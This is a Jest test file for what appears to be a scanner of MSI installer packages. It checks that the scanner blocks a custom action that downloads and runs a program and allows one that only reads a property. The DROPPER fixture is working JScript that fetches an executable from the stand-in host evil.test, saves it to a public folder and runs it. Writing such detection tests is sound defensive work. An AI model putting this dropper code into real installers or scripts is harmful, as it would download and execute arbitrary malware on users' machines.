// Scripts of installer packages are run like others: those that stand in tables have no file of their own.

import { execFileSync } from 'node:child_process';
import { readFile } from 'node:fs/promises';
import { expect, test } from '@jest/globals';
import { describeWithPeer } from '../../support/peers/describeWithPeer.ts';
import { tempDir } from '../../support/tempDir.ts';
import { emulationBlade } from './blade-support.ts';

const DROPPER = [
  "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://evil.test/p.exe', false); x.send();",
  "var t = new ActiveXObject('ADODB.Stream'); t.Open(); t.Type = 1; t.Write(x.responseBody);",
  "t.SaveToFile('C:/Users/Public/p.exe', 2); new ActiveXObject('WScript.Shell').Run('C:/Users/Public/p.exe');",
].join(' ');

describeWithPeer(['msibuild'], () => {
  test.each([
    ['a custom action that downloads and runs a program', DROPPER, 'block'],
    ['a custom action that reads a property', "var folder = Session.Property('INSTALLDIR');", 'allow'],
  ])('the package with %s', async (_, script, verdict) => {
    await using folder = await tempDir();
    const head = 'Action\tType\tSource\tTarget\ns72\ti2\tS72\tS0\nCustomAction\tAction\n';
    await folder.write('CustomAction.idt', `${head}Run\t37\t\t${script}\n`);
    execFileSync('msibuild', ['setup.msi', '-i', 'CustomAction.idt'], { cwd: folder.path, stdio: 'ignore' });
    await using te = await emulationBlade();
    const found = await te.inspect(await readFile(folder.join('setup.msi')), {
      'content-type': 'application/x-msi',
      'content-disposition': 'attachment; filename="setup.msi"',
    });
    expect(found).toMatchObject({ kind: verdict });
  });
});
